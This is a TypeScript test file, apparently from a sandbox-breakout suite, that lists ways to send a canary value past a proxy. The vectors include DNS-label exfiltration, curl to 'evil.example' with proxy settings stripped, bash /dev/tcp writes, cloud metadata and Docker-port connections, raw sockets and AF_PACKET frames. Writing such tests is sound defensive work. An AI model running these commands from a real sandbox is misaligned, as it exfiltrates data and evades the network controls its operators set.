import { type Vector, vectors } from "../../support/breakout/vector.ts"

/** Past the proxy: straight to an address, with every protocol that a machine speaks. */

const targets: readonly (readonly [name: string, address: string, port: number])[] = [
  ["the metadata address", "169.254.169.254", 80],
  ["another cloud's metadata", "100.100.100.200", 80],
  ["metadata over IPv6", "fd00:ec2::254", 80],
  ["a documentation address", "192.0.2.1", 443],
  ["a documentation address over IPv6", "2001:db8::1", 443],
  ["the internet", "203.0.113.10", 443],
  ["an odd port of the internet", "203.0.113.10", 31_007],
  ["SSH on port 443", "203.0.113.10", 22],
  ["an address of the host", "10.99.0.1", 2375],
  ["the host's side of its link", "198.18.0.1", 22],
  ["the host over IPv6", "fd00:99::1", 8080],
  ["the host's loopback", "127.0.0.1", 2375],
  ["an IPv4 address inside IPv6", "::ffff:203.0.113.10", 443],
  ["a private network", "192.168.1.1", 80],
]

const tcp = vectors(
  { gate: "no network", leak: "canary", lang: "py" },
  ...targets.map(([name, address, port]) => [`TCP to ${name}`, "3", `tcp("${address}", ${port})`] as const),
)

const datagrams = vectors(
  { gate: "no network", leak: "canary", lang: "py" },
  ["UDP to a resolver", "8", `udp("8.8.8.8", 53)`],
  ["UDP to the host's resolver", "8", `udp("198.18.0.2", 53)`],
  ["UDP, connected, to a resolver", "8", `udp("8.8.8.8", 53, connected=True)`],
  ["UDP 443 as QUIC does", "8", `udp("203.0.113.10", 443)`],
  ["UDP to an odd port", "8", `udp("203.0.113.10", 40123)`],
  ["UDP to the metadata address", "8", `udp("169.254.169.254", 80)`],
  ["UDP over IPv6", "8", `udp("2001:db8::1", 53)`],
  ["UDP to the host", "own", `udp("10.99.0.1", 514)`],
  ["UDP to the host's loopback", "own", `udp("127.0.0.1", 161)`],
  ["multicast DNS", "own", `udp("224.0.0.251", 5353)`],
  [
    "multicast to all nodes",
    "own",
    `
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
for index, _ in socket.if_nameindex():
    try: s.sendto(B, ("ff02::1", 5353, 0, index))
    except OSError as e: print(e)`,
  ],
  [
    "broadcast",
    "own",
    `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.sendto(B, ("255.255.255.255", 67))`,
  ],
  [
    "a DNS query in labels",
    "8",
    `
q = bytes.fromhex("123401000001000000000000")
for label in (CANARY[:12].encode(), CANARY[12:].encode(), b"evil", b"example"): q += bytes([len(label)]) + label
udp("8.8.8.8", 53, data=q + b"\\0\\0\\1\\0\\1")`,
  ],
  ["a DNS query over TCP", "8", `tcp("8.8.8.8", 53, data=struct.pack(">H", len(B)) + B)`],
  [
    "DNS over TLS",
    "8",
    `
c = ssl._create_unverified_context()
s = socket.create_connection(("8.8.8.8", 853), 1)
s = c.wrap_socket(s, server_hostname=CANARY + ".evil.example"); s.sendall(B)`,
  ],
  ["UDP-Lite", "own", `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136); s.sendto(B, ("203.0.113.10", 53))`],
  [
    "TCP fast open",
    "own",
    `
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.sendto(B, socket.MSG_FASTOPEN, ("203.0.113.10", 443)); time.sleep(0.2)`,
  ],
  [
    "TCP from a bound source port",
    "own",
    `
s = socket.create_connection(("203.0.113.10", 443), 1, ("", 33333)); s.sendall(B)`,
  ],
)

const resolving = vectors(
  { gate: "no network", leak: "canary", lang: "sh" },
  ["a name looked up by the system", "8", `getent hosts "$CANARY.evil.example"`],
  [
    "a name looked up by Python",
    "8",
    `python3 -c 'import os,socket; socket.getaddrinfo(os.environ["CANARY"]+".evil.example", 443)'`,
  ],
  ["a name looked up by node", "8", `node -e 'require("dns").resolve(process.env.CANARY+".evil.example", ()=>{})'`],
  [
    "a resolver of one's own choice",
    "8",
    `node -e 'const d=require("dns");d.setServers(["8.8.8.8"]);d.resolveTxt(process.env.CANARY+".evil.example",()=>{})'`,
  ],
  ["bash's /dev/tcp", "own", `bash -c 'echo "$CANARY" > /dev/tcp/203.0.113.10/443'`],
  ["bash's /dev/udp", "own", `bash -c 'echo "$CANARY" > /dev/udp/203.0.113.10/53'`],
  ["curl --noproxy", "3", `curl -sk -m2 --noproxy '*' "https://evil.example/$CANARY"`],
  [
    "proxy variables unset",
    "3",
    `env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sk -m2 "https://evil.example/$CANARY"`,
  ],
  ["NO_PROXY for all", "3", `NO_PROXY='*' no_proxy='*' curl -sk -m2 "https://evil.example/$CANARY"`],
  [
    "curl --resolve past the proxy",
    "3",
    `curl -sk -m2 --noproxy '*' --resolve listed.example:443:203.0.113.10 "https://listed.example/$CANARY"`,
  ],
  [
    "curl's own DNS over https",
    "8",
    `curl -sk -m2 --noproxy '*' --doh-insecure --doh-url https://203.0.113.10/$CANARY https://evil.example/`,
  ],
  [
    "ssh to the internet",
    "7",
    `ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=1 "$CANARY@203.0.113.10" true & sleep 1; kill $!`,
    { unshown: "ssh keeps the user's name until it has keys; what is shown is its connection" },
  ],
  [
    "git over ssh",
    "7",
    `GIT_SSH_COMMAND="ssh -o StrictHostKeyChecking=no -o ConnectTimeout=1" timeout 1 git ls-remote ssh://git@203.0.113.10/x`,
    { unshown: "as above: the connection is the leak" },
  ],
)

const lowLevel = vectors(
  { gate: "seccomp", leak: "canary", lang: "py" },
  [
    "ICMP by a raw socket",
    "8",
    `
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
s.sendto(b"\\x08\\0\\0\\0\\0\\1\\0\\1" + B, ("203.0.113.10", 0))`,
  ],
  [
    "ICMPv6 by a raw socket",
    "8",
    `
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)
s.sendto(b"\\x80\\0\\0\\0\\0\\1\\0\\1" + B, ("2001:db8::1", 0))`,
  ],
  [
    "a TCP segment by a raw socket",
    "8",
    `
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 6)
s.sendto(struct.pack(">HHIIBBHHH", 1, 443, 0, 0, 0x50, 2, 1024, 0, 0) + B, ("203.0.113.10", 0))`,
  ],
  [
    "a protocol without a name",
    "own",
    `
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); s.sendto(B, ("203.0.113.10", 0))`,
  ],
  [
    "a whole packet by AF_PACKET",
    "own",
    `
for _, name in socket.if_nameindex():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind((name, 0x88b5))
    s.send(b"\\xff" * 6 + b"\\0" * 6 + b"\\x88\\xb5" + B)`,
  ],
)

const ping = vectors({ gate: "no network", leak: "canary", lang: "py" }, [
  "ICMP by a ping socket",
  "8",
  `
open("/proc/sys/net/ipv4/ping_group_range", "w").write("0 2147483647") if os.getuid() == 0 else None
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)
s.sendto(b"\\x08\\0\\0\\0\\0\\1\\0\\1" + B, ("203.0.113.10", 0))`,
])

export const direct: readonly Vector[] = [...tcp, ...datagrams, ...resolving, ...lowLevel, ...ping]
